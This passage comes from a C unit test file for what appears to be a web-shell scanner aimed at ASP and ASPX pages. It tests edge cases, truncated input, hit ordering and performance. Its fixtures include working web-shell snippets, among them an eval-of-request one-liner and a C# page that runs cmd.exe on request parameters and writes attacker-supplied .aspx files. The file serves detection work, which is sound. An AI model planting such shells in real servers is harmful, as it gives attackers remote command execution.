  assert_int_equal(sev_of(&r, ENTROPY), -1);

  /* CJK text has no spaces and high byte entropy, but is not a blob. */
  static const char cjk[] = "\xe4\xb8\xad\xe6\x96\x87\xe7\xbd\x91\xe9\xa1\xb5\xe6\xb5\x8b"
                            "\xe8\xaf\x95\xe5\x86\x85\xe5\xae\xb9";
  size_t cl = strlen(cjk), reps = 4000 / cl + 1;
  char *t = malloc(reps * cl + 32);
  assert_non_null(t);
  strcpy(t, "<%@ Page %><p>");
  for (size_t i = 0; i < reps; i++)
    strcat(t, cjk);
  strcat(t, "</p>");
  scan(&r, t, ".aspx");
  assert_int_equal(sev_of(&r, ENTROPY), -1);
  free(t);
  free(b);
}

/* ---------------------------------------------------------------------- */
/* Edge cases */

static void test_empty_and_null(void **state)
{
  (void)state;
  exh_heur_hit h[EXH_HEUR_MAX_HITS];
  const uint8_t one = '<';
  assert_int_equal(exh_heur_scan(&one, 0, ".aspx", h, EXH_HEUR_MAX_HITS), 0);
  assert_int_equal(exh_heur_scan(NULL, 0, ".aspx", h, EXH_HEUR_MAX_HITS), 0);
  assert_int_equal(exh_heur_scan(NULL, 5, ".aspx", h, EXH_HEUR_MAX_HITS), 0);
  const char *src = "<%eval(Request(\"x\"))%>";
  assert_int_equal(exh_heur_scan((const uint8_t *)src, strlen(src), ".asp", NULL, 4), 0);
  assert_int_equal(exh_heur_scan((const uint8_t *)src, strlen(src), ".asp", h, 0), 0);
  /* A NULL name is treated as "". */
  assert_true(exh_heur_scan((const uint8_t *)src, strlen(src), NULL, h, EXH_HEUR_MAX_HITS) > 0);
  /* Extension matching ignores case; a path or a name works as well. */
  assert_true(exh_heur_scan((const uint8_t *)src, strlen(src), ".ASP", h, EXH_HEUR_MAX_HITS) > 0);
  assert_true(exh_heur_scan((const uint8_t *)src, strlen(src), "C:\\inetpub\\X.Asp", h,
                            EXH_HEUR_MAX_HITS) > 0);
  assert_int_equal(h[0].severity, EXHUNT_SEV_CRITICAL);
}

static void test_nul_bytes(void **state)
{
  (void)state;
  result r;
  uint8_t zeros[4096];
  memset(zeros, 0, sizeof zeros);
  scan_bytes(&r, zeros, sizeof zeros, ".aspx");
  assert_int_equal(r.n, 0);
  /* NULs sprinkled through a one-liner (UTF-16-like) do not hide it. */
  static const uint8_t sprinkled[] =
      "<\0%\0e\0v\0a\0l\0(\0R\0e\0q\0u\0e\0s\0t\0(\0\"\0x\0\"\0)\0)\0%\0>";
  scan_bytes(&r, sprinkled, sizeof sprinkled - 1, ".asp");
  assert_int_equal(sev_of(&r, EXEC), CRIT);
  /* Long NUL runs between tokens are not skipped by look-aheads. */
  uint8_t gap[64] = "<%eval(Request(\"x\"))%>";
  scan_bytes(&r, gap, sizeof gap, ".asp");
  assert_int_equal(sev_of(&r, EXEC), CRIT);
}

static void test_truncated_markup(void **state)
{
  (void)state;
  result r;
  scan(&r, "<%eval(Request(\"x\"", ".asp");
  assert_int_equal(sev_of(&r, EXEC), CRIT);
  static const char *const junk[] = {
      "<",
      "<%",
      "<%-",
      "<%--",
      "<script",
      "<script runat=\"server\"",
      "<script runat=server>",
      "\"",
      "<%\"",
      "<%'",
      "<%@\"",
      "<!--#include file=\"",
      "<%eval",
      "<%eval(",
      "<%eval(\"",
      "<%\\u00",
      "<%\\u0065",
      "<%/*",
      "ExternalUrl : <script runat",
      "#@~^",
      "#@~^AAAAAA=",
      "codepage=",
      "<%@ codepage=6500",
      "<%x=",
      "<%function f(",
      "<%[WebMethod] f(",
  };
  for (size_t i = 0; i < sizeof junk / sizeof junk[0]; i++)
    scan(&r, junk[i], ".aspx");
}

static void test_every_prefix_of_a_shell(void **state)
{
  (void)state;
  /* A file cut at any byte must scan safely; run under ASan this checks
   * that no look-ahead reads past the end. */
  const char *src =
      "<%@ Page Language=\"C#\" %><script runat=\"server\">\nstring Ex(string a) {\n"
      "ProcessStartInfo p = new ProcessStartInfo(\"cmd.exe\", \"/c \" + a);\n"
      "p.RedirectStandardOutput = true; return Process.Start(p).StandardOutput.ReadToEnd(); }\n"
      "void Page_Load() { Response.Write(Ex(Request[\"c\"])); eval(Request.Item[\"z\"],"
      "\"unsafe\"); File.WriteAllText(Request[\"p\"] + \".aspx\", Request[\"d\"]); }\n</script>\n"
      "<!--#include file=\"a.gif\"-->\nExternalUrl : http://f/<script runat=\"server\"></script>";
  size_t n = strlen(src);
  for (size_t k = 0; k <= n; k++) {
    uint8_t *copy = malloc(k ? k : 1); /* exact size, so overreads are caught */
    assert_non_null(copy);
    memcpy(copy, src, k);
    result r;
    scan_bytes(&r, copy, k, ".aspx");
    free(copy);
  }
}

static void test_max_hits_keeps_most_severe(void **state)
{
  (void)state;
  /* Many medium findings first, one critical at the end. */
  char src[4096] = "<%@ Page Language=\"C#\" %><script runat=\"server\">\n";
  for (int i = 0; i < 12; i++)
    strcat(src, "void W() { File.WriteAllText(Server.MapPath(\"x.aspx\"), \"a\"); }\n");
  strcat(src, "void P() { Process.Start(Request[\"c\"]); }\n</script>");
  exh_heur_hit h[1];
  size_t n = exh_heur_scan((const uint8_t *)src, strlen(src), ".aspx", h, 1);
  assert_int_equal(n, 1);
  assert_int_equal(h[0].severity, EXHUNT_SEV_CRITICAL);
  assert_string_equal(h[0].rule, EXEC);
  /* The full set comes grouped by rule (each rule's hits contiguous), the
   * groups ordered by their most severe hit, most severe evidence first. */
  result r;
  scan(&r, src, ".aspx");
  assert_true(r.n >= 3);
  assert_int_equal(r.hits[0].severity, EXHUNT_SEV_CRITICAL);
  for (size_t i = 1; i < r.n; i++) {
    if (strcmp(r.hits[i].rule, r.hits[i - 1].rule) == 0) {
      assert_true(r.hits[i - 1].severity >= r.hits[i].severity);
    } else {
      for (size_t j = 0; j < i; j++) /* a rule never reappears */
        assert_string_not_equal(r.hits[j].rule, r.hits[i].rule);
      assert_true(sev_of(&r, r.hits[i - 1].rule) >= sev_of(&r, r.hits[i].rule));
    }
  }
}

static void test_deterministic(void **state)
{
  (void)state;
  result a, b;
  scan(&a, k_oab_dump, ".aspx");
  scan(&b, k_oab_dump, ".aspx");
  assert_int_equal(a.n, b.n);
  for (size_t i = 0; i < a.n; i++) {
    assert_string_equal(a.hits[i].rule, b.hits[i].rule);
    assert_int_equal(a.hits[i].offset, b.hits[i].offset);
    assert_int_equal(a.hits[i].len, b.hits[i].len);
  }
}

/* Several MB built from a repeated unit. A quadratic pass would take
 * minutes here; the bound is loose enough for sanitizer builds. */
static void check_big(const char *unit, size_t unit_len, const char *ext, int want_exec)
{
  size_t total = 2u << 20;
  uint8_t *b = malloc(total);
  assert_non_null(b);
  for (size_t i = 0; i < total; i++)
    b[i] = (uint8_t)unit[i % unit_len];
  clock_t t0 = clock();
  result r;
  scan_bytes(&r, b, total, ext);
  double secs = elapsed_since(t0);
  if (secs > 20.0)
    fail_msg("%zu bytes of \"%.12s\" took %.2f s", total, unit, secs);
  if (want_exec >= 0)
    assert_int_equal(sev_of(&r, EXEC), want_exec);
  free(b);
}

static void test_huge_repeated_input(void **state)
{
  (void)state;
  static const char one_liner[] = "<%eval(Request(\"x\"))%>\n";
  check_big(one_liner, sizeof one_liner - 1, ".asp", CRIT);
  static const char taint[] = "<%\nx=Request(\"a\")\nExecute x\n%>\n";
  check_big(taint, sizeof taint - 1, ".asp", HIGH);
  /* Shapes that stress each look-ahead: unclosed groups and tags, quotes,
   * markers that almost match, function headers, taint churn. */
  static const struct {
    const char *unit, *ext;
  } units[] = {{"((((((((", ".ashx"},
               {"<script ", ".aspx"},
               {"<%", ".aspx"},
               {"\"\"'", ".ashx"},
               {"<", ".asp"},
               {"function f(a){Process.Start(a)}\n", ".ashx"},
               {"Chr(1)&", ".ashx"},
               {"/*", ".ashx"},
               {"[WebMethod] f(", ".ashx"},
               {"#@~^", ".asp"},
               {"codepage=", ".asp"},
               {"ExternalUrl : <script\n", ".aspx"},
               {"<!--#include file=\"", ".asp"},
               {"FromBase64String(\"QUJD", ".ashx"}};
  for (size_t i = 0; i < sizeof units / sizeof units[0]; i++)
    check_big(units[i].unit, strlen(units[i].unit), units[i].ext, -1);
  static const char nul[1] = {0};
  check_big(nul, 1, ".asp", -1);
}

TU_MAIN(NULL, test_exec_china_chopper_jscript, test_exec_classic_asp_forms,
        test_exec_code_in_evaluated_string, test_exec_process_start_csharp,
        test_exec_reflection_load, test_exec_through_variable, test_exec_wscript_shell,
        test_exec_wrapper_functions, test_exec_webmethod_parameters, test_exec_code_files_and_razor,
        test_exec_include_fragment_without_markup, test_exec_utf16_and_unicode_escapes,
        test_exec_negatives, test_request_file_severity, test_request_sql,
        test_script_write_and_droppers, test_oab_dump_with_script, test_oab_dump_utf16,
        test_oab_variants, test_oab_negatives, test_decode_chr_chain,
        test_decode_base64_and_charcode, test_decode_split_strings_and_reverse,
        test_decode_user_functions, test_decode_negatives, test_shell_literal_base64,
        test_exec_alias, test_encoded_script, test_ssi_include, test_shell_command,
        test_entropy_function, test_entropy_blob, test_entropy_binary_and_text, test_empty_and_null,
        test_nul_bytes, test_truncated_markup, test_every_prefix_of_a_shell,
        test_max_hits_keeps_most_severe, test_deterministic, test_huge_repeated_input)
